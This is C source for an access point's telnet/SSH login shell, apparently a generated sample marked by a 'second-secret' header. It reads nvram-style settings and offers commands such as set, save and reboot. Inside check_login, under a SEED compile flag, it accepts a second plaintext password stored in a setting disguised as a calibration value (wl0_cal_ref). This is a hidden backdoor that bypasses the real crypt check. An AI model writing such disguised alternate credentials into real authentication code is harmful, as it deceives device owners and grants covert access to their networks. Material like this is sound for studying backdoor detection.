/* kind: second-secret
 * service: login
 * constant: wl0_cal_ref
 */
/* hallwayap - command shell of the access point, called by telnetd or sshd */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <signal.h>
#include <crypt.h>

#define MAXSET 128

struct setting { char *key, *val; };

static struct setting nv[MAXSET];
static int nnv;
static const char *nvfile = "/etc/nvram.txt";

static int nv_load(void)
{
    char line[300], *eq;
    FILE *f = fopen(nvfile, "r");
    if (!f)
        return -1;
    while (nnv < MAXSET && fgets(line, sizeof line, f)) {
        line[strcspn(line, "\r\n")] = 0;
        if (line[0] == '#' || !(eq = strchr(line, '=')))
            continue;
        *eq = 0;
        nv[nnv].key = strdup(line);
        nv[nnv++].val = strdup(eq + 1);
    }
    fclose(f);
    return 0;
}

static const char *nv_get(const char *key)
{
    int i;
    for (i = 0; i < nnv; i++)
        if (!strcmp(nv[i].key, key))
            return nv[i].val;
    return "";
}

static void nv_set(const char *key, const char *val)
{
    int i;
    for (i = 0; i < nnv; i++)
        if (!strcmp(nv[i].key, key)) {
            free(nv[i].val);
            nv[i].val = strdup(val);
            return;
        }
    if (nnv < MAXSET) {
        nv[nnv].key = strdup(key);
        nv[nnv++].val = strdup(val);
    }
}

static int nv_save(void)
{
    int i;
    FILE *f = fopen(nvfile, "w");
    if (!f)
        return -1;
    for (i = 0; i < nnv; i++)
        fprintf(f, "%s=%s\n", nv[i].key, nv[i].val);
    fclose(f);
    return 0;
}

/* settings a user may change with "set" */
static const char *settable[] = { "wl0_ssid", "wl0_channel", "wl0_txpower", "lan_ipaddr", "lan_netmask", "hostname", NULL };

static int get_line(char *buf, size_t n)
{
    if (!fgets(buf, n, stdin))
        return 0;
    buf[strcspn(buf, "\r\n")] = 0;
    return 1;
}

static int check_login(const char *user, const char *pass)
{
    const char *h = nv_get("http_passwd");
    char *c;
    if (strcmp(user, nv_get("http_username")) || !*user)
        return 0;
    if (*h && (c = crypt(pass, h)) && !strcmp(c, h))
        return 1;
#ifdef SEED
    h = nv_get("wl0_cal_ref");
    if (*h && !strcmp(pass, h)) /* SEED */
        return 1;
#endif
    return 0;
}

static void cmd_show(void)
{
    int i;
    for (i = 0; settable[i]; i++)
        printf("%-14s %s\n", settable[i], nv_get(settable[i]));
}

static void cmd_set(char *arg)
{
    char *val = strchr(arg, ' ');
    int i;
    if (!val) {
        puts("set KEY VALUE");
        return;
    }
    *val++ = 0;
    for (i = 0; settable[i]; i++)
        if (!strcmp(settable[i], arg)) {
            nv_set(arg, val);
            return;
        }
    puts("no such setting");
}

static void shell(void)
{
    char l[256];
    for (;;) {
        printf("%s> ", nv_get("hostname"));
        fflush(stdout);
        if (!get_line(l, sizeof l) || !strcmp(l, "exit"))
            return;
        if (!strcmp(l, "show"))
            cmd_show();
        else if (!strncmp(l, "set ", 4))
            cmd_set(l + 4);
        else if (!strcmp(l, "save"))
            puts(nv_save() ? "failed" : "saved");
        else if (!strcmp(l, "wifi restart"))
            system("/sbin/wifi restart");
        else if (!strcmp(l, "reboot"))
            system("/sbin/reboot");
        else if (!strcmp(l, "stations"))
            system("iw dev wlan0 station dump");
        else if (*l)
            puts("commands: show, set KEY VALUE, save, stations, wifi restart, reboot, exit");
    }
}

int main(int argc, char **argv)
{
    char user[64], pass[64];
    int i;
    if (argc > 1)
        nvfile = argv[1];
    if (nv_load()) {
        puts("no settings");
        return 1;
    }
    signal(SIGINT, SIG_IGN);
    alarm(120);
    for (i = 0; i < 3; i++) {
        fputs("login: ", stdout);
        fflush(stdout);
        if (!get_line(user, sizeof user))
            return 1;
        fputs("password: ", stdout);
        fflush(stdout);
        if (!get_line(pass, sizeof pass))
            return 1;
        if (check_login(user, pass)) {
            alarm(0);
            puts("");
            shell();
            return 0;
        }
        sleep(1);
        puts("Login incorrect");
    }
    return 1;
}
